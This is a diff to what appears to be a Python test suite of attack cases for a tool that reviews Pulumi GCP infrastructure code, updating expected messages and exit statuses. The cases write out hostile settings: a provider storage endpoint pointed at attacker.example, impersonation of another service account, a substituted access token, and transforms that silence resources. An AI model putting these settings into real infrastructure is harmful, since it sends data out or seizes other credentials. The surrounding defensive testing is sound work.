@@ -196,22 +196,25 @@ ATTACKS: Final = (
     Attack(
         "transform-of-the-engine",
         _first("import pulumi\npulumi.runtime.register_resource_transform(lambda args: None)"),
-        ("by a transform of `all resources`",),
+        ("declares `transform all resources` otherwise than the base",),
+        status=0,
     ),
     Attack(
         "transform-of-a-resource",
         _bucket_options("transforms=[lambda args: None]"),
-        ("by a transform of `gcp:storage/bucket:Bucket data-us-central1`",),
+        ("declares `transform gcp:storage/bucket:Bucket data-us-central1` otherwise",),
+        status=0,
     ),
     Attack(
         "dynamic-provider",
         _last(_DYNAMIC),
-        ("the engine runs it in an update",),
+        ("declares `dynamic ", "only an update shows the effect"),
     ),
     Attack(
         "component-of-another-package",
         _last('pulumi.ComponentResource("other:index:Everything", "e", {}, None, True)'),
-        ("component", "`other:index:Everything e`"),
+        ("declares `component other:index:Everything e`",),
+        status=0,
     ),
     Attack(
         "inputs-from-an-object",
@@ -220,30 +223,33 @@ ATTACKS: Final = (
             'content = pulumi_gcp.storage.get_bucket_object_content(bucket="b", name="n").content or "roles/viewer"\n'
             'pulumi_gcp.projects.IAMMember("a", project=settings.project, role=content, member="group:a@b.example")'
         ),
-        ("call `gcp:storage/getBucketObjectContent:getBucketObjectContent`",),
+        ("declares `call gcp:storage/getBucketObjectContent:getBucketObjectContent`",),
         status=0,
     ),
     Attack(
         "inputs-from-another-stack",
         _last('pulumi.StackReference("organization/other/prod")'),
-        ("reads `pulumi:pulumi:StackReference organization/other/prod`",),
+        ("declares `read pulumi:pulumi:StackReference organization/other/prod`",),
         status=0,
     ),
     # Providers.
     Attack(
         "endpoint-of-another-service",
         _provider('storage_custom_endpoint="https://attacker.example/"'),
-        ("`gcp.gcp.storageCustomEndpoint` of a provider is `https://attacker.example/`",),
+        ("declares `storageCustomEndpoint of the provider gcp`",),
+        status=0,
     ),
     Attack(
         "another-account",
         _provider('impersonate_service_account="owner@other.iam.gserviceaccount.com"'),
-        ("`gcp.gcp.impersonateServiceAccount` of a provider", "`owner@other.iam.gserviceaccount.com`"),
+        ("declares `impersonateServiceAccount of the provider gcp`",),
+        status=0,
     ),
     Attack(
         "another-token",
         _provider('access_token="abcdefgh-token"'),
-        ("`gcp.gcp.accessToken` of a provider is another secret",),
+        ("declares `accessToken of the provider gcp`",),
+        status=0,
         absent=("abcdefgh-token",),
     ),
     Attack(
